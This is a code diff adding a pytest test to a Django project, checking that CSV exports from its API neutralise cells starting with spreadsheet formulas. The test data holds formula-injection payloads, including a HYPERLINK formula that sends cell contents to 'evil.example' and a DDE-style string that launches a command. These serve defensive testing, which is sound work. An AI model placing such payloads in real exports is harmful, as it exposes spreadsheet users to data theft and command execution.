@@ -3,9 +3,17 @@ import io
 import json
 
 import pytest
+from rest_framework.test import APIClient
 
 from core.publishing import Status
-from tests.factories import ActorFactory, EventFactory, ParticipationFactory, QuoteFactory
+from tests.factories import (
+    ActorFactory,
+    CitationFactory,
+    EventFactory,
+    ParticipationFactory,
+    QuoteFactory,
+    SourceFactory,
+)
 
 pytestmark = pytest.mark.django_db
 
@@ -105,4 +113,32 @@ def test_csv_export_values_survive_quoting_and_empty_fields_on_either_database(a
             "quote_count": "1",
             "summary": "Line one\nline two, with a comma; and “quotes” — ✓",
         }
+    ]
+
+
+# Spreadsheet formula injection in CSV exports -------------------------------------------------
+
+
+FORMULAS = ["=1+1 summit", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def test_csv_cells_that_start_a_formula_are_neutralized():
+    source = SourceFactory(title=FORMULAS[1])
+    event = EventFactory(title=FORMULAS[0], slug="formula", summary="+44 20 7946 0000", cited=False)
+    CitationFactory(event=event, source=source)
+    ActorFactory(name=FORMULAS[2], slug="at-sum", description="-1 and a\ttab")
+    ActorFactory(name="\tTabbed", slug="tabbed", description="Plain = text")
+    api = APIClient()
+
+    def export(path):
+        body = b"".join(api.get(path).streaming_content).decode()
+        return list(csv.DictReader(io.StringIO(body)))
+
+    events = export("/api/events/?format=csv")
+    assert [(e["title"], e["summary"]) for e in events] == [("'" + FORMULAS[0], "'+44 20 7946 0000")]
+    assert [s["title"] for s in export("/api/sources/?format=csv")] == ["'" + FORMULAS[1]]
+    actors = export("/api/actors/?format=csv&ordering=name")
+    assert [(a["name"], a["description"]) for a in actors] == [
+        ("'\tTabbed", "Plain = text"),
+        ("'" + FORMULAS[2], "'-1 and a\ttab"),
     ]
